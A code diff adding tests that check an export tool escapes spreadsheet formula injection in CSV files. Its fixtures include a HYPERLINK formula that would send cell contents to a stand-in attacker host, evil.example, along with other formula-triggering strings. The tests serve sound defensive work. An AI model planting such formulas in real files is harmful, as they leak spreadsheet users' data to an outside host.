@@ -15,6 +15,10 @@ import { PAPER_TEMPLATE, fillTemplate } from "@/lib/verifier/template";
 import { importFile } from "../import-file";
 import { createExport, exportDir, runExport } from "./run";
 import { splitOf } from "./split";
+import { spreadsheetTextSql } from "./flat";
+import { asSpreadsheetText } from "@/components/charts/csv";
+import { Prisma } from "@/lib/db/generated/client";
+import { parse } from "csv-parse/sync";
 
 const prisma = testDb();
 
@@ -252,6 +256,39 @@ describe("RLVR and flat exports re-import to the same rows", () => {
       WHERE (q.key, q.text, q.reference) IN (SELECT key, text, reference FROM questions WHERE dataset_id = ${datasetId})
       GROUP BY d.name ORDER BY d.name`;
     expect(pairs).toEqual([{ name: "again", n: 6 }, { name: "again-pq", n: 6 }, { name: "d", n: 6 }]);
+  });
+
+  it("flat CSV: texts a spreadsheet would run as formulas are kept as text, unless exact texts are asked for", async () => {
+    const hostile = [
+      { question: '=HYPERLINK("http://evil.example/?x="&A1,"click")', reference: "@SUM(1+1)", response: "+2+3", judge: "J", verdict: "YES" },
+      { question: '=HYPERLINK("http://evil.example/?x="&A1,"click")', reference: "@SUM(1+1)", response: "-5", judge: "J", verdict: "NO" },
+      { question: '=HYPERLINK("http://evil.example/?x="&A1,"click")', reference: "@SUM(1+1)", response: "- a bullet\n- another", judge: "J", verdict: "NO" },
+    ];
+    const file = path.join(dir, "hostile.jsonl");
+    writeFileSync(file, hostile.map((r) => JSON.stringify(r)).join("\n") + "\n");
+    const { datasetId } = await importFile(prisma, { path: file, dataset: "hostile" });
+    const cells = async (spreadsheetSafe?: boolean) => {
+      const out = await exportNow({ kind: "flat", datasetId, format: "csv", ...(spreadsheetSafe === undefined ? {} : { spreadsheetSafe }) });
+      const rows = parse(out.read("judgments.csv"), { columns: true }) as Record<string, string>[];
+      return rows.map((r) => [r.question, r.reference, r.response]);
+    };
+    // by default (and as every other CSV of the studio): an apostrophe first; a plain number stays a number
+    expect(await cells()).toEqual([
+      [`'${hostile[0]!.question}`, "'@SUM(1+1)", "'+2+3"],
+      [`'${hostile[0]!.question}`, "'@SUM(1+1)", "-5"],
+      [`'${hostile[0]!.question}`, "'@SUM(1+1)", "'- a bullet\n- another"],
+    ]);
+    expect(await cells(false)).toEqual(hostile.map((h) => [h.question, h.reference, h.response]));
+  });
+
+  it("the SQL that guards texts for spreadsheets marks exactly the texts the studio's CSV writer marks", async () => {
+    const texts = ["=1+1", "+2", "-3", "-3.5e7", "+.5", "-", "+", "@x", "\tx", "\rx", "- item", "plain", "", "1e5", "'=x", " =x", "=", "-1-", "--1", "E5", "-e5", "+1.", "٣"];
+    const [row] = await prisma.$queryRaw<{ guarded: string[] }[]>(
+      Prisma.sql`SELECT array_agg(${spreadsheetTextSql(Prisma.sql`t`)} ORDER BY i) AS guarded FROM unnest(${texts}::text[]) WITH ORDINALITY AS u(t, i)`,
+    );
+    expect(row!.guarded).toEqual(texts.map(asSpreadsheetText));
+    // the cases that matter, by hand
+    expect(texts.map(asSpreadsheetText).slice(0, 7)).toEqual(["'=1+1", "+2", "-3", "-3.5e7", "+.5", "'-", "'+"]);
   });
 
   it("flat JSONL and CSV: every judgment, and re-importing gives the same responses and verdicts", async () => {
